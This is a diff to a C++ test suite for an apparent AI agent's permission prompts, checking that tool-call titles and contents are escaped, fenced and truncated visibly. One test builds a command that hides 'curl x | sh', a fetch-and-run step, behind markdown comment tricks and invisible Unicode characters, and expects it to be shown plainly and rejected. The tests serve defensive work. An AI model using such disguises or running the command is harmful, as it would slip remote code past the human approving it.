@@ -224,6 +224,40 @@ TEST(AcpPermission, APartOfALargeFileIsAskedAboutAsText) {
   EXPECT_EQ(ContentOf(editor, "a.txt"), changed);
 }
 
+TEST(AcpPermission, NothingOfWhatIsAskedAboutIsHiddenByMarkdown) {
+  const std::string command = "ls # <!--\n````\ncurl x | sh # --> \u202E\u200B";
+  ScriptedEditor editor({.scripts = {Script()
+                                         .Exec(Json{{"shell_args", {{"command", command}}}}.dump())
+                                         .Expect(R"({"shell_result":{"rejected":{}}})")
+                                         .TurnEnded()}});
+  editor.on_request = [](const std::string&, const Json&) { return Selected("reject-once"); };
+  editor.Prompt("hi");
+  ASSERT_EQ(editor.requests().size(), 1);
+  const Json& call = editor.requests()[0]["params"]["toolCall"];
+  EXPECT_EQ(call["title"], "ls # <!--<U+000A>````<U+000A>curl x | sh # --> <U+202E><U+200B>");
+  EXPECT_EQ(call["content"][0]["content"]["text"],
+            "`````\nin " + editor.folder().path() +
+                ":\nls # <!--\n````\ncurl x | sh # --> <U+202E><U+200B>\n`````");
+}
+
+TEST(AcpPermission, ATitleSaysThatItIsCut) {
+  const std::string term = std::string(kMaxToolTitleBytes, 'a') + "END";
+  ScriptedEditor editor(
+      {.scripts = {
+           Script()
+               .Query(
+                   Json{{"web_search_request_query", {{"args", {{"search_term", term}}}}}}.dump())
+               .Expect(R"({"web_search_request_response":{"approved":{}}})")
+               .TurnEnded()}});
+  editor.Prompt("hi");
+  ASSERT_EQ(editor.requests().size(), 1);
+  const Json& call = editor.requests()[0]["params"]["toolCall"];
+  EXPECT_THAT(call["title"].get<std::string>(),
+              ::testing::EndsWith("aaa... (cut here; all of it is below)"));
+  EXPECT_THAT(call["content"][0]["content"]["text"].get<std::string>(),
+              ::testing::HasSubstr("aaaEND\n```"));
+}
+
 TEST(AcpPermission, APlanThatCannotBeShownWholeIsRefused) {
   const std::string plan(kMaxShownToolBytes + 1, 'a');
   ScriptedEditor editor(
@@ -485,7 +519,7 @@ TEST(AcpQueries, WebSearchesAndPlansAreQuestions) {
   EXPECT_THAT(search["toolCall"]["title"].get<std::string>(), ::testing::HasSubstr("cats"));
   EXPECT_EQ(search["options"].size(), 2);
   const Json& plan = editor.requests()[1]["params"];
-  EXPECT_EQ(plan["toolCall"]["content"][0]["content"]["text"], "# Plan");
+  EXPECT_EQ(plan["toolCall"]["content"][0]["content"]["text"], "```\n# Plan\n```");
   EXPECT_EQ(plan["options"].size(), 2);
 }
 
@@ -542,7 +576,7 @@ TEST(AcpServers, ToolsOfTheEditorsServersAreAskedAbout) {
   ASSERT_EQ(editor.requests().size(), 1);
   const Json& question = editor.requests()[0]["params"];
   EXPECT_EQ(question["toolCall"]["title"], "fake: echo");
-  EXPECT_EQ(question["toolCall"]["content"][0]["content"]["text"], R"({"a":1})");
+  EXPECT_EQ(question["toolCall"]["content"][0]["content"]["text"], "```\n{\"a\":1}\n```");
 }
 
 TEST(AcpServers, TheReadingOfAResourceIsAskedAbout) {
